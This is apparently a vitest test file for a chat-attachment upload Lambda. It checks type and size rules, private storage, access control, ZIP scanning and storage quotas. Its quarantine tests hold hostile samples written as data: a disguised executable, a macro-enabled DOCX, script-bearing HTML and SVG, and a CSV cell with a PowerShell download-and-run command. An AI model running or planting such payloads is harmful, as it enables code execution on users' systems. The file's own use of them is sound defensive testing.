// Chat attachments through the files Lambda on DynamoDB Local and the local file store: what
// confirmUpload keeps (in the private area) and what it quarantines, by content.

import { access, mkdtemp } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { beforeAll, describe, expect, it, vi } from 'vitest';
import { STORAGE_QUOTA_BYTES, UPLOAD_RULES, type StoredFile, type UploadTicket } from '@partage/graphql';
import { fileStore } from '../adapters/file-store';
import { addStoredBytes, getFile, storedBytesOf } from '../data/files';
import type { UserRecord } from '../data/users';
import { fileKey, type FileArea } from '../domain/files/file-keys';
import { docxOf, zipOf } from '../domain/files/zip-fixture';
import { asUser, errorCodeOf, givenUser, invalidFieldsOf, resolverEvent, useTestEnvironment } from '../testing/fixtures';
import { handler } from './files';

const DOCX = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document';
const PNG = Buffer.concat([
  Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13]),
  Buffer.from('IHDR'),
  Buffer.from([0, 0, 0x02, 0x80, 0, 0, 0x01, 0xe0, 8, 6, 0, 0, 0]),
]);
const GIF = Buffer.concat([Buffer.from('GIF89a'), Buffer.from([0x40, 0x01, 0xf0, 0x00, 0xf7, 0, 0])]);
const PDF = Buffer.from('%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\n%%EOF\n');
const EXE = Buffer.concat([Buffer.from('MZ'), Buffer.from([0x90, 0, 3, 0, 0, 0, 4, 0]), Buffer.alloc(50), Buffer.from('PE\0\0')]);

let storeDir: string;
let sender: UserRecord;
let other: UserRecord;

beforeAll(async () => {
  await useTestEnvironment();
  storeDir = await mkdtemp(join(tmpdir(), 'files-handler-'));
  Object.assign(process.env, { FILE_STORE_ADAPTER: 'local', FILE_STORE_DIR: storeDir, FILE_STORE_SECRET: 'test-file-store-secret' });
  [sender, other] = await Promise.all([givenUser(), givenUser()]);
});

const call = (field: string, args: Record<string, unknown>, user: UserRecord) => handler(resolverEvent(field, args, asUser(user)));
const exists = (area: FileArea, id: string) =>
  access(join(storeDir, fileKey(area, id))).then(
    () => true,
    () => false,
  );

/** Requests a chat attachment's form and puts the bytes where the form would (the POST itself is the local host's: local-file-routes.test.ts). */
async function uploaded(contentType: string, bytes: Uint8Array, user = sender): Promise<string> {
  const ticket = (await call(
    'Mutation.requestUpload',
    { input: { purpose: 'CHAT_ATTACHMENT', contentType, size: bytes.length } },
    user,
  )) as UploadTicket;
  await fileStore().put(fileKey('incoming', ticket.fileId), bytes, contentType);
  return ticket.fileId;
}
const confirm = (fileId: string, user = sender) => call('Mutation.confirmUpload', { fileId }, user);

describe('requestUpload(CHAT_ATTACHMENT)', () => {
  it('hands out a form for what chats accept, up to 100 MB, and refuses other types or sizes by the shared rules', async () => {
    const ticket = (await call(
      'Mutation.requestUpload',
      { input: { purpose: 'CHAT_ATTACHMENT', contentType: DOCX, size: 100 * 1024 * 1024 } },
      sender,
    )) as UploadTicket;
    const fields = JSON.parse(ticket.fields) as Record<string, string>;
    const policy = JSON.parse(Buffer.from(fields.Policy!, 'base64').toString()) as { conditions: unknown[] };
    expect(fields).toMatchObject({ key: `files/incoming/${ticket.fileId}`, 'Content-Type': DOCX });
    expect(policy.conditions).toContainEqual(['content-length-range', 1, UPLOAD_RULES.CHAT_ATTACHMENT.maxBytes]);

    const request = (contentType: string, size: number) =>
      call('Mutation.requestUpload', { input: { purpose: 'CHAT_ATTACHMENT', contentType, size } }, sender);
    expect(invalidFieldsOf(await request('application/x-msdownload', 10))).toEqual(['input.contentType:fileType']);
    expect(invalidFieldsOf(await request('image/svg+xml', 10))).toEqual(['input.contentType:fileType']);
    expect(invalidFieldsOf(await request('text/html', 10))).toEqual(['input.contentType:fileType']);
    expect(invalidFieldsOf(await request('application/zip', 100 * 1024 * 1024 + 1))).toEqual(['input.size:fileSize']);
  });
});

describe('confirmUpload(CHAT_ATTACHMENT)', () => {
  it.each([
    ['a Word document', DOCX, docxOf()],
    [
      'a ZIP of pictures and a PDF',
      'application/zip',
      zipOf([
        { name: 'four.png', data: PNG },
        { name: 'manuel.pdf', data: PDF, deflate: true },
      ]),
    ],
    ['a CSV', 'text/csv', Buffer.from('article;prix\nfour;1200\nfrigo;-50\n')],
    ['a plain text', 'text/plain', Buffer.from('Bonjour, voici la liste des équipements.\n')],
    ['a PDF', 'application/pdf', PDF],
  ])('keeps %s in the private area, for its uploader only', async (_, contentType, bytes) => {
    const fileId = await uploaded(contentType, bytes);
    expect(await confirm(fileId)).toEqual({
      id: fileId,
      purpose: 'CHAT_ATTACHMENT',
      contentType,
      size: bytes.length,
      publicUrl: null,
      width: null,
      height: null,
    } satisfies StoredFile);
    expect([await exists('private', fileId), await exists('incoming', fileId), await exists('public', fileId)]).toEqual([
      true,
      false,
      false,
    ]);
    const url = (await call('Query.fileUrl', { fileId }, sender)) as string;
    expect(url).toContain(`/files/private/${fileId}?expires=`);
    expect(errorCodeOf(await call('Query.fileUrl', { fileId }, other))).toBe('UNAUTHORIZED_ACCESS');
  });

  it('keeps pictures with their size (GIF included)', async () => {
    const fileId = await uploaded('image/gif', GIF);
    expect(await confirm(fileId)).toMatchObject({ contentType: 'image/gif', width: 320, height: 240, publicUrl: null });
    expect(await exists('private', fileId)).toBe(true);
  });

  it.each([
    ['a program renamed .pdf', 'application/pdf', EXE],
    [
      'a program inside a ZIP',
      'application/zip',
      zipOf([
        { name: 'four.png', data: PNG },
        { name: 'setup.exe', data: EXE, deflate: true },
      ]),
    ],
    [
      'a macro-enabled Word document',
      DOCX,
      docxOf({ name: 'word/vbaProject.bin', data: Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]) }),
    ],
    ['an HTML page renamed .txt', 'text/plain', Buffer.from('<!DOCTYPE html><html><body><script>alert(1)</script></body></html>')],
    ['an SVG with an event handler as a PNG', 'image/png', Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>')],
    [
      'a PowerShell script as CSV',
      'text/csv',
      Buffer.from('a,b\n1,"powershell -nop -c IEX(New-Object Net.WebClient).DownloadString(\'http://x\')"\n'),
    ],
  ])('quarantines %s: VALIDATION_FAILED, rule fileForbidden on file', async (_, contentType, bytes) => {
    const fileId = await uploaded(contentType, bytes);
    expect(invalidFieldsOf(await confirm(fileId))).toEqual(['file:fileForbidden']);
    expect([await exists('quarantine', fileId), await exists('incoming', fileId), await exists('private', fileId)]).toEqual([
      true,
      false,
      false,
    ]);
    expect(await getFile(fileId)).toMatchObject({ status: 'QUARANTINED', size: bytes.length });
    expect(errorCodeOf(await confirm(fileId))).toBe('NOT_FOUND');
    expect(errorCodeOf(await call('Query.fileUrl', { fileId }, sender))).toBe('NOT_FOUND');
  });

  it('quarantines a mere mismatch with rule fileContent', async () => {
    const fileId = await uploaded('text/csv', PNG);
    expect(invalidFieldsOf(await confirm(fileId))).toEqual(['file:fileContent']);
    expect(await exists('quarantine', fileId)).toBe(true);
    const renamedZip = await uploaded(DOCX, zipOf([{ name: 'four.png', data: PNG }]));
    expect(invalidFieldsOf(await confirm(renamedZip))).toEqual(['file:fileContent']);
  });

  it("lets only the uploader confirm, and reads a large archive's directory and entries by ranges, not whole", async () => {
    const video = new Uint8Array(8 * 1024 * 1024).map((_, index) => (index * 31) % 253);
    const archive = zipOf([
      { name: 'four.png', data: PNG },
      { name: 'visite.mp4', data: video },
      { name: 'plan.pdf', data: PDF },
    ]);
    const fileId = await uploaded('application/zip', archive);
    expect(errorCodeOf(await confirm(fileId, other))).toBe('UNAUTHORIZED_ACCESS');
    const read = vi.spyOn(fileStore(), 'read');
    expect(await confirm(fileId)).toMatchObject({ id: fileId, size: archive.length });
    const calls = [...read.mock.calls];
    read.mockRestore();
    const bytesRead = calls.reduce((total, [, , length]) => total + length, 0);
    expect(calls[0]![1]).toBe(archive.length - (22 + 0xffff)); // the tail first
    expect(bytesRead).toBeGreaterThan(0);
    expect(bytesRead).toBeLessThan(200_000);
  });
});

describe('storage quota per account (issue 22, finding 6)', () => {
  const requestFor = (user: UserRecord, size: number) =>
    call('Mutation.requestUpload', { input: { purpose: 'CHAT_ATTACHMENT', contentType: 'image/png', size } }, user);

  it('counts what an account keeps, and refuses a form past the quota with a clear error before any byte is sent', async () => {
    const user = await givenUser();
    expect(await confirm(await uploaded('image/png', PNG, user), user)).toMatchObject({ size: PNG.length });
    expect(await storedBytesOf(user.id)).toBe(PNG.length);
    // The rest of the quota but 1 000 bytes, kept by earlier uploads.
    await addStoredBytes(user.id, STORAGE_QUOTA_BYTES - PNG.length - 1_000);
    expect(invalidFieldsOf(await requestFor(user, 1_001))).toEqual(['input.size:storageQuota']);
    expect(errorCodeOf(await requestFor(user, 1_000))).toBeUndefined();
  });

  it('refuses to keep a file that no longer fits when it is confirmed (filled meanwhile), and keeps nothing of it', async () => {
    const user = await givenUser();
    const fileId = await uploaded('image/png', PNG, user);
    expect(await addStoredBytes(user.id, STORAGE_QUOTA_BYTES - PNG.length + 1, STORAGE_QUOTA_BYTES)).toBe(true);
    expect(invalidFieldsOf(await confirm(fileId, user))).toEqual(['input.size:storageQuota']);
    expect(await exists('incoming', fileId)).toBe(false);
    expect(await exists('private', fileId)).toBe(false);
    expect(await getFile(fileId)).toBeNull();
  });
});
